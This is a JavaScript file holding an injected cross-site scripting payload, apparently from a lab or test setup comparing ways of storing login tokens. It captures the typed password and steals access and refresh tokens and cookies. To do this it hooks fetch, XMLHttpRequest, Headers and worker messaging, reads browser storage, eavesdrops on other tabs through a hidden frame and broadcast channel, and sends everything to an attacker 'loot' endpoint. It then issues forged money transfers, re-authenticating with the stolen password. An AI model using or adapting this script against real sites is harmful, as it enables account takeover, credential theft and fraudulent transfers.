// The injected script. It comes from the attacker's host, and runs with all that the page may do. For each place it has
// the strongest known way (RFC 10017 §5.1), and sends what it got to the attacker.

(() => {
  const { origin, pathname } = new URL(document.currentScript.src);
  const loot = `${origin}/loot/${pathname.split("/")[2]}`;
  const { flow } = document.body.dataset;

  // Its own copies: what the page has under these names is wrapped below.
  const clean = window.fetch.bind(window);
  const found = { access: null, refresh: null, password: null };
  let login = 1;

  const text = (way, got) => JSON.stringify({ login, way, got });
  const byFetch = (way, got) => clean(loot, { method: "POST", mode: "no-cors", body: text(way, got) });
  const byNavigation = (way, got) => {
    // The answer is 204, so the page stays.
    location.href = `${loot}?text=${encodeURIComponent(text(way, got))}`;
  };
  const byImage = (way, got) =>
    new Promise((resolve) => {
      const image = new Image();
      image.onload = resolve;
      image.onerror = resolve;
      image.src = `${loot}?text=${encodeURIComponent(text(way, got))}`;
    });

  // Waits for the password in the login form.
  document.addEventListener(
    "submit",
    ({ target }) => {
      const { value } = target.querySelector('[type="password"]') ?? {};
      if (!value || found.password !== null) return;
      found.password = value;
      byNavigation("password", { password: value });
    },
    true,
  );

  // Wraps what the page sends with, so that it sees a token that only a variable holds.
  const wrapped = { access: null, refresh: null };
  const seeHeader = (name, value) => {
    const [, token] = /^Bearer (.+)$/.exec(value) ?? [];
    if (token && String(name).toLowerCase() === "authorization") wrapped.access = token;
  };
  for (const name of ["set", "append"]) {
    const own = Headers.prototype[name];
    Headers.prototype[name] = function (header, value) {
      seeHeader(header, value);
      return own.call(this, header, value);
    };
  }
  const ownHeader = XMLHttpRequest.prototype.setRequestHeader;
  XMLHttpRequest.prototype.setRequestHeader = function (header, value) {
    seeHeader(header, value);
    return ownHeader.call(this, header, value);
  };
  window.fetch = async (...asked) => {
    for (const [name, value] of new Request(...asked).headers) seeHeader(name, value);
    const answer = await clean(...asked);
    const body = await answer
      .clone()
      .json()
      .catch(() => null);
    if (body?.access_token) wrapped.access = body.access_token;
    if (body?.refresh_token) wrapped.refresh = body.refresh_token;
    return answer;
  };

  // Takes hold of a worker that the page speaks with.
  let worker = null;
  const ownPost = Worker.prototype.postMessage;
  Worker.prototype.postMessage = function (...sent) {
    worker = this;
    return ownPost.apply(this, sent);
  };

  // Leaves behind: a second frame of this origin, with functions that nobody wrapped, and an ear for other tabs.
  const frame = document.createElement("iframe");
  frame.hidden = true;
  document.documentElement.append(frame);
  let heard = null;
  new BroadcastChannel("shop tokens").addEventListener("message", ({ data }) => {
    if (data.access !== null) heard = data;
  });

  const stored = (area) => ({ access: area.getItem("access"), refresh: area.getItem("refresh") });

  function inStorages() {
    const [local, session] = [stored(localStorage), stored(sessionStorage)];
    return {
      cookie: document.cookie,
      access: local.access ?? session.access,
      refresh: local.refresh ?? session.refresh,
    };
  }

  async function reads(number) {
    login = number;
    const got = inStorages();
    Object.assign(found, { access: got.access, refresh: got.refresh });
    await byImage("reads", got);
  }

  async function wraps() {
    found.access = wrapped.access ?? found.access;
    await byFetch("wraps", wrapped);
  }

  /** Only the script sees this answer: the page goes on with what it has. */
  async function refreshes() {
    const body = JSON.stringify(found.refresh === null ? {} : { refresh_token: found.refresh });
    const before = document.cookie;
    const answer = await clean(`/api/${flow}/refresh`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body,
    });
    const told = await answer.json();
    found.access = told.access_token ?? found.access;
    const cookie = document.cookie === before ? "" : document.cookie;
    await byFetch("refreshes", { access: told.access_token ?? null, refresh: told.refresh_token ?? null, cookie });
  }

  /** What the frame has of a login that began after the script did. */
  async function stays() {
    const { document: inside, localStorage: local, sessionStorage: session } = frame.contentWindow;
    const kept = { access: stored(local).access ?? stored(session).access, refresh: stored(local).refresh };
    await byFetch("stays", { ...kept, ...heard, cookie: inside.cookie });
  }

  /** Sends it through alice's browser, which adds her cookies by itself. */
  async function ask(path, body) {
    const address = `/api/${flow}/${path}`;
    if (worker) return throughWorker(address, body);
    const headers = {
      "content-type": "application/json",
      ...(found.access && { authorization: `Bearer ${found.access}` }),
    };
    const answer = await clean(address, { method: "POST", headers, body: JSON.stringify(body) });
    const told = await answer.json().catch(() => ({}));
    found.access = told.access_token ?? found.access;
    return answer;
  }

  function throughWorker(address, body) {
    const { port1, port2 } = new MessageChannel();
    return new Promise((resolve) => {
      port1.onmessage = ({ data }) => resolve(data);
      ownPost.call(worker, { address, body }, [port2]);
    });
  }

  const act = (amount) => ask("transfer", { to: "bob", amount });

  const copies = (number) => Promise.all([reads(number), wraps()]);

  globalThis.injected = {
    copies,
    act,
    async ways(number) {
      await copies(number);
      await refreshes();
      await act(1);
      if (number > 1) await stays();
      Object.assign(wrapped, { access: null, refresh: null });
      heard = null;
    },
    /** Where the login has to be fresh, it uses the password that it waited for. */
    async actAfterTime(amount) {
      const { status } = await act(amount);
      if (status < 300) return;
      await ask("reauthenticate", { password: found.password });
      await act(amount);
    },
  };
})();
